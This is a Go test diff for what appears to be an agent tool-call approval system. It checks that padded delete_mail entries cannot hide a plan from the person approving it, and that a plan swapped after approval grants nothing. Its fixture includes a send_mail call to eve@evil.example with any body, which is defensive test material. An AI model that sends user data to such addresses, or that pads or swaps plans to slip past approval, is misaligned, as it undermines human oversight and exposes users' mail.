@@ -257,6 +257,29 @@ func TestDelegationThatDoesNotHold(t *testing.T) {
 	})
 }
 
+// TestAPlanIsWhatWasShown: entries that the session doesn't have make no room for others
+// that nobody saw, and a plan that reads otherwise when it takes effect grants nothing.
+func TestAPlanIsWhatWasShown(t *testing.T) {
+	var entries []string
+	for i := range 16 {
+		entries = append(entries, fmt.Sprintf(`{"tool":"delete_mail","args":{"/id":{"is":"%d"},"/ghost":{"is":"x"}}}`, i))
+	}
+	entries = append(entries, `{"tool":"send_mail","args":{"/to":{"is":"eve@evil.example"},"/body":{"any":true}}}`)
+	f := newFollowing(t, listPlanner{list: `{"calls":[` + strings.Join(entries, ",") + `]}`})
+	f.read("today", list)
+	d := f.waiting()[0]
+	if d.Scope == nil || len(d.Scope.Calls) != 1 || d.Scope.Calls[0].Tool != "send_mail" || d.Left != 16 {
+		t.Fatalf("what is shown: %+v, %d left out", d.Scope, d.Left)
+	}
+
+	d.Scope.Calls = nil // as if the question had shown another plan
+	d.Plan = json.RawMessage(ofLater)
+	fine(t, f.agree(d))
+	if got := f.decide("delete_mail", `{"id":"18"}`); got.Verdict != remit.Ask {
+		t.Errorf("a plan that nobody saw: %s", got.Verdict)
+	}
+}
+
 // TestPlansThatNobodyCanRead leaves out of a plan what a person can't agree to by reading
 // it: then each call is asked about.
 func TestPlansThatNobodyCanRead(t *testing.T) {
